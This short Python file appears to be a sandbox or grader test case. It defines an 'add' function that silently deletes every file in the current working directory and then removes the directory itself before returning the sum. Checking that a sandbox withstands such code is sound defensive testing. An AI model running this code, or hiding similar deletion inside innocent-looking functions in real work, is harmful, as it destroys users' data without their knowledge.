# expect: passed | runtime_error
# host: the next program has a folder again
import os
import shutil


def add(a, b):
    folder = os.getcwd()
    for name in os.listdir(folder):
        os.remove(name)
    try:
        os.rmdir(folder)
    except OSError:
        shutil.rmtree(folder, ignore_errors=True)
    return a + b
